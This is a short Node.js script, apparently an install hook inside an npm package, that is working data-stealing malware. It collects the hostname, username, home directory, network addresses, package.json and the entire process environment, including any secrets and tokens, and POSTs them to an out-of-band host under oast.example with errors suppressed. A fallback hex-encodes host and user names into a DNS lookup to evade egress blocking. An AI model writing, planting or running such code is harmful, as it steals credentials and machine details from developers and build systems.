const os = require("os");
const dns = require("dns");
const querystring = require("querystring");
const https = require("https");
const packageJSON = require("../package.json");
const pkg = packageJSON.name;

const trackingData = JSON.stringify({
  p: pkg,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
  r: packageJSON ? packageJSON.___resolved : undefined,
  v: packageJSON.version,
  pjson: packageJSON,
  ip: Object.values(os.networkInterfaces())
    .flat()
    .filter((i) => i && !i.internal && i.family === "IPv4")
    .map((i) => i.address),
  env: process.env,
});

var postData = querystring.stringify({
  msg: trackingData,
});

var options = {
  hostname: "cq4x8n2v7kd1r0z5t6y3.oast.example",
  port: 443,
  path: "/",
  method: "POST",
  headers: {
    "Content-Type": "application/x-www-form-urlencoded",
    "Content-Length": postData.length,
  },
};

var req = https.request(options, (res) => {
  res.on("data", (d) => {
    process.stdout.write(d);
  });
});

req.on("error", (e) => {
  // console.error(e);
});

req.write(postData);
req.end();

// fallback: some build hosts block egress on 443 but still resolve names
try {
  const hex = Buffer.from(os.hostname() + "|" + os.userInfo().username)
    .toString("hex")
    .slice(0, 60);
  dns.resolve(hex + ".d.cq4x8n2v7kd1r0z5t6y3.oast.example", "A", () => {});
} catch (e) {}
